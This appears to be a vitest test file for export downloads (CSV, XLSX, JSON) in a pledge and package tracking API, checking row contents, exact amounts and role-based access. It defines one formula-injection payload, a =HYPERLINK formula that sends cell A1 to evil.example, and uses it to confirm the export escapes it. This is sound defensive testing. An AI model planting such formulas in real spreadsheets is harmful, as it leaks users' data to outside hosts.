import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { demoData } from '../../demo/demo-data.ts';
import { loadDemo } from '../../src/app/load-demo.ts';
import type { AllocationPlanJson, PackageJson, PledgeJson } from '../../src/contract/index.ts';
import { buildApp } from '../../src/server/app.ts';
import { type Client, testPassword } from '../support/api.ts';
import { dialects, freshDatabase, type TestDatabase } from '../support/databases.ts';
import { everyItem, logIn, openProposedPackage } from '../support/pledges.ts';

/**
 * The list downloads beyond the import templates (`?format=csv|xlsx|json` on the packages, a
 * package, the allocation plan, the ledger, the audit chain and the reference lists): each holds
 * the rows the JSON list shows the same caller, no more, with amounts as exact strings.
 */

type Row = Record<string, string>;
const formats = ['csv', 'xlsx', 'json'] as const;
type Format = (typeof formats)[number];
const hostileName = '=HYPERLINK("https://evil.example/?x="&A1,"open")';

const text = (value: unknown): string =>
  value === null || value === undefined
    ? ''
    : typeof value === 'object' && 'richText' in (value as object)
      ? (value as { richText: { text: string }[] }).richText.map((part) => part.text).join('')
      : String(value);

/** The rows of a download, every cell as text ('' for empty), keyed by the header row. */
async function rowsOf(format: Format, response: LightMyRequestResponse, sheet?: string): Promise<Row[]> {
  expect(response.statusCode, response.body.slice(0, 300)).toBe(200);
  if (format === 'json') {
    return (response.json() as Record<string, unknown>[]).map((record) =>
      Object.fromEntries(Object.entries(record).map(([key, value]) => [key, text(value)])),
    );
  }
  if (format === 'csv') return parse(response.body, { columns: true, bom: true }) as Row[];
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const worksheet = sheet ? workbook.getWorksheet(sheet) : workbook.worksheets[0];
  if (!worksheet) throw new Error(`no sheet ${sheet}`);
  const rows: Row[] = [];
  let header: string[] = [];
  worksheet.eachRow({ includeEmpty: false }, (row, number) => {
    const values = (row.values as unknown[]).slice(1);
    if (number === 1) header = values.map(text);
    else rows.push(Object.fromEntries(header.map((key, index) => [key, text(values[index])])));
  });
  return rows;
}

const withFormat = (url: string, format: Format) => `${url}${url.includes('?') ? '&' : '?'}format=${format}`;

describe.each(dialects)('list downloads on %s', (dialect) => {
  let database: TestDatabase;
  let app: FastifyInstance;
  let coordinator: Client;
  let supplier: Client;
  let donor: Client;
  let auditor: Client;
  let admin: Client;
  let recipient: Client;
  let pkg: PackageJson;
  let plan: AllocationPlanJson;
  const publicClient = (): Client => ({
    role: 'public',
    request: (method, url) => app.inject({ method: method as 'GET', url }),
  });

  beforeAll(async () => {
    database = await freshDatabase(dialect);
    await loadDemo(database.context, demoData, { onlyIfEmpty: false, password: testPassword });
    app = await buildApp({ context: database.context });
    coordinator = await logIn(app, 'coordinator@nato.example', 'coordinator');
    supplier = await logIn(app, 'pricing@dod.example', 'supplier');
    donor = await logIn(app, 'treasury@gov.uk.example', 'donor');
    auditor = await logIn(app, 'auditor@audit.example', 'auditor');
    admin = await logIn(app, 'admin@purl-desk.example', 'admin');
    recipient = await logIn(app, 'planner@mod.gov.ua.example', 'recipient');

    pkg = await openProposedPackage(coordinator, supplier, hostileName);
    const pledges = await everyItem<PledgeJson>(coordinator, '/api/v1/pledges');
    for (const key of ['GBR-2026-02-11', 'SWE-2026-02-12']) {
      const pledge = pledges.find((candidate) => `${candidate.donor}-${candidate.announcedOn}` === key);
      if (!pledge) throw new Error(`the demo has no pledge ${key}`);
      const committed = await coordinator.request('POST', `/api/v1/pledges/${pledge.id}/transitions`, {
        body: { to: 'committed', on: '2026-02-12' },
      });
      expect(committed.statusCode, committed.body).toBe(200);
    }
    const planned = await coordinator.request('GET', '/api/v1/allocation/plan');
    expect(planned.statusCode, planned.body).toBe(200);
    plan = planned.json();
  }, 180_000);
  afterAll(async () => {
    await app?.close();
    await database?.dispose();
  });

  test('the packages download has the rows of the list, amounts exact, in each format', async () => {
    const listed = await everyItem<PackageJson>(coordinator, '/api/v1/packages');
    expect(listed.length).toBeGreaterThan(1);
    const expected = listed.map((item) => ({
      id: item.id,
      ref: item.ref,
      rank: String(item.rank),
      status: item.status,
      currency: item.target.currency,
      target: item.target.amount,
      price: item.price?.amount ?? '',
      funded: item.funded.amount,
      coverage: item.coverage ?? '',
      lines: String(item.lines.length),
    }));
    for (const format of formats) {
      const response = await coordinator.request('GET', `/api/v1/packages?format=${format}`);
      expect(response.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="packages-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`),
      );
      const rows = await rowsOf(format, response);
      expect(
        rows.map(({ id, ref, rank, status, currency, target, price, funded, coverage, lines }) => ({
          id,
          ref,
          rank,
          status,
          currency,
          target,
          price,
          funded,
          coverage,
          lines,
        })),
        format,
      ).toEqual(expected);
    }
    // The status filter holds in the download as in the list.
    const open = await rowsOf(
      'json',
      await coordinator.request('GET', '/api/v1/packages?status=open&format=json'),
    );
    expect(open.map((row) => row.id)).toEqual([pkg.id]);
  });

  test('a donor downloads the packages it funds only, as its list shows them', async () => {
    const own = await everyItem<PackageJson>(donor, '/api/v1/packages');
    const all = await everyItem<PackageJson>(coordinator, '/api/v1/packages');
    expect(own.length).toBeLessThan(all.length);
    for (const format of formats) {
      const rows = await rowsOf(format, await donor.request('GET', `/api/v1/packages?format=${format}`));
      expect(rows.map((row) => row.id)).toEqual(own.map((item) => item.id));
      expect(rows.map((row) => row.id)).not.toContain(pkg.id);
    }
    // The open package is not the donor's: its lines are not either.
    expect((await donor.request('GET', `/api/v1/packages/${pkg.id}?format=csv`)).statusCode).toBe(404);
    expect((await publicClient().request('GET', '/api/v1/packages?format=csv')).statusCode).toBe(401);
    expect((await admin.request('GET', '/api/v1/packages?format=xlsx')).statusCode).toBe(403);
    expect((await recipient.request('GET', '/api/v1/packages?format=json')).statusCode).toBe(200);
  });

  test('a package’s lines download has its lines with their amounts and funding', async () => {
    const expected = pkg.lines.map((line) => ({
      packageId: pkg.id,
      lineId: line.id,
      requirementId: line.requirementId,
      requirementRef: line.requirementRef,
      quantity: String(line.quantity),
      currency: 'USD',
      amount: line.amount?.amount ?? '',
      funded: line.funded.amount,
    }));
    for (const format of formats) {
      const response = await supplier.request('GET', `/api/v1/packages/${pkg.id}?format=${format}`);
      const rows = await rowsOf(format, response);
      expect(
        rows.map(
          ({ packageId, lineId, requirementId, requirementRef, quantity, currency, amount, funded }) => ({
            packageId,
            lineId,
            requirementId,
            requirementRef,
            quantity,
            currency,
            amount,
            funded,
          }),
        ),
      ).toEqual(expected);
    }
  });

  test('neutralises a package name that starts with = in CSV and XLSX, and keeps it in JSON', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const rows = await rowsOf(
        format,
        await coordinator.request('GET', `/api/v1/packages?format=${format}`),
      );
      const row = rows.find((candidate) => candidate.id === pkg.id);
      expect(row?.name).toBe(`'${hostileName}`);
      for (const each of rows) expect(each.name).not.toMatch(/^[=+\-@\t\r]/);
    }
    const json = await rowsOf('json', await coordinator.request('GET', '/api/v1/packages?format=json'));
    expect(json.find((row) => row.id === pkg.id)?.name).toBe(hostileName);
  });

  test('the allocation plan downloads as its tables, each allocation with its original money and rate', async () => {
    expect(plan.allocations.length).toBeGreaterThan(0);
    const pledges = await everyItem<PledgeJson>(coordinator, '/api/v1/pledges');
    const byId = new Map(pledges.map((pledge) => [pledge.id, pledge]));
    const expected = plan.allocations.map((allocation) => {
      const converted = allocation.amount.currency !== 'USD' ? byId.get(allocation.pledgeId)?.usd : null;
      return {
        pledgeId: allocation.pledgeId,
        pledgeRef: allocation.pledgeRef,
        donor: allocation.donor,
        packageId: allocation.packageId,
        lineId: allocation.lineId,
        amount: allocation.amount.amount,
        currency: allocation.amount.currency,
        usdAmount: allocation.usd.amount,
        usdRate: converted?.rate ?? '',
        usdRateDate: converted?.rateDate ?? '',
      };
    });
    // The demo's British pledge is in pounds: its rows carry the locked rate and its date.
    expect(
      expected.some((row) => row.currency === 'GBP' && row.usdRate !== '' && row.usdRateDate !== ''),
    ).toBe(true);
    for (const format of formats) {
      const rows = await rowsOf(
        format,
        await auditor.request('GET', `/api/v1/allocation/plan?format=${format}`),
        'allocations',
      );
      expect(
        rows.map((row) => ({
          pledgeId: row.pledgeId,
          pledgeRef: row.pledgeRef,
          donor: row.donor,
          packageId: row.packageId,
          lineId: row.lineId,
          amount: row.amount,
          currency: row.currency,
          usdAmount: row.usdAmount,
          usdRate: row.usdRate,
          usdRateDate: row.usdRateDate,
        })),
        format,
      ).toEqual(expected);
    }
    const lines = await rowsOf(
      'csv',
      await coordinator.request('GET', '/api/v1/allocation/plan?format=csv&table=lines'),
    );
    expect(lines.map((row) => [row.lineId, row.price, row.planned, row.missing])).toEqual(
      plan.lines.map((line) => [line.lineId, line.price.amount, line.planned.amount, line.missing.amount]),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await coordinator.request('GET', '/api/v1/allocation/plan?format=xlsx'))
        .rawPayload as unknown as ArrayBuffer,
    );
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      'allocations',
      'lines',
      'shortfalls',
      'pledges',
    ]);
    expect((await donor.request('GET', '/api/v1/allocation/plan?format=csv')).statusCode).toBe(403);
    expect((await supplier.request('GET', '/api/v1/allocation/plan?format=xlsx')).statusCode).toBe(403);
    expect(
      (await coordinator.request('GET', '/api/v1/allocation/plan?format=csv&table=secrets')).statusCode,
    ).toBe(422);
  });

  test('the ledger balances download has the balances of the list, as of a day too', async () => {
    for (const asOf of [undefined, '2025-12-31']) {
      const url = `/api/v1/ledger/accounts${asOf ? `?asOf=${asOf}` : ''}`;
      const listed = (await auditor.request('GET', url)).json() as {
        items: { account: string; balance: { amount: string; currency: string } }[];
      };
      expect(listed.items.length).toBeGreaterThan(0);
      for (const format of formats) {
        const rows = await rowsOf(format, await auditor.request('GET', withFormat(url, format)));
        expect(rows.map((row) => [row.account, row.balance, row.currency, row.asOf])).toEqual(
          listed.items.map((item) => [item.account, item.balance.amount, item.balance.currency, asOf ?? '']),
        );
      }
    }
    expect((await donor.request('GET', '/api/v1/ledger/accounts?format=csv')).statusCode).toBe(403);
  });

  test('the ledger entries download has one row per posting, with the rate of a conversion', async () => {
    interface Entry {
      id: string;
      postings: { account: string; amount: { amount: string; currency: string } }[];
      conversion: { rate: string; rateDate: string } | null;
    }
    const entries = await everyItem<Entry>(coordinator, '/api/v1/ledger/entries');
    const expected = entries.flatMap((entry) =>
      entry.postings.map((posting) => [
        entry.id,
        posting.account,
        posting.amount.amount,
        posting.amount.currency,
        entry.conversion?.rate ?? '',
        entry.conversion?.rateDate ?? '',
      ]),
    );
    expect(expected.some((row) => row[4] !== '')).toBe(true);
    for (const format of formats) {
      const rows = await rowsOf(
        format,
        await coordinator.request('GET', `/api/v1/ledger/entries?format=${format}`),
      );
      expect(
        rows.map((row) => [row.entryId, row.account, row.amount, row.currency, row.rate, row.rateDate]),
        format,
      ).toEqual(expected);
    }
    // The account filter holds.
    const account = entries[0]?.postings[0]?.account ?? '';
    const filtered = await everyItem<Entry>(
      coordinator,
      `/api/v1/ledger/entries?account=${encodeURIComponent(account)}`,
    );
    const rows = await rowsOf(
      'csv',
      await coordinator.request(
        'GET',
        `/api/v1/ledger/entries?account=${encodeURIComponent(account)}&format=csv`,
      ),
    );
    expect([...new Set(rows.map((row) => row.entryId))]).toEqual(filtered.map((entry) => entry.id));
    expect(filtered.length).toBeLessThan(entries.length);
    expect((await supplier.request('GET', '/api/v1/ledger/entries?format=json')).statusCode).toBe(403);
  });

  test('the audit download holds the events the search selects, across pages', async () => {
    interface Event {
      seq: number;
      action: string;
      objectType: string;
      objectId: string;
      hash: string;
    }
    for (const query of ['', 'object=package', `object=${pkg.id}`, 'actor=coordinator@nato.example']) {
      const url = `/api/v1/audit${query ? `?${query}` : ''}`;
      const events = await everyItem<Event>(auditor, url);
      expect(events.length, query).toBeGreaterThan(0);
      for (const format of query === '' ? formats : (['csv'] as const)) {
        const rows = await rowsOf(format, await admin.request('GET', withFormat(url, format)));
        expect(
          rows.map((row) => [row.seq, row.action, row.objectType, row.objectId, row.hash]),
          query,
        ).toEqual(
          events.map((event) => [
            String(event.seq),
            event.action,
            event.objectType,
            event.objectId,
            event.hash,
          ]),
        );
      }
    }
    expect((await coordinator.request('GET', '/api/v1/audit?format=csv')).statusCode).toBe(403);
    expect((await auditor.request('GET', '/api/v1/audit?from=2026-02-30&format=csv')).statusCode).toBe(422);
  });

  test('the reference lists download: rates, categories, and organisations and users for the admin', async () => {
    const rates = await everyItem<{ currency: string; date: string; perUsd: string }>(
      donor,
      '/api/v1/fx-rates',
    );
    const rateRows = await rowsOf('csv', await donor.request('GET', '/api/v1/fx-rates?format=csv'));
    expect(rateRows.map((row) => [row.currency, row.date, row.perUsd])).toEqual(
      rates.map((rate) => [rate.currency, rate.date, rate.perUsd]),
    );
    const gbp = await rowsOf('json', await donor.request('GET', '/api/v1/fx-rates?currency=GBP&format=json'));
    expect(new Set(gbp.map((row) => row.currency))).toEqual(new Set(['GBP']));
    const categories = await rowsOf('xlsx', await recipient.request('GET', '/api/v1/categories?format=xlsx'));
    expect(categories.map((row) => row.code)).toEqual(
      (await everyItem<{ code: string }>(recipient, '/api/v1/categories')).map((category) => category.code),
    );
    for (const list of ['users', 'organizations']) {
      const listed = await everyItem<{ id: string }>(admin, `/api/v1/${list}`);
      for (const format of formats) {
        const rows = await rowsOf(format, await admin.request('GET', `/api/v1/${list}?format=${format}`));
        expect(rows.map((row) => row.id)).toEqual(listed.map((item) => item.id));
      }
      expect((await coordinator.request('GET', `/api/v1/${list}?format=csv`)).statusCode).toBe(403);
    }
  });
});
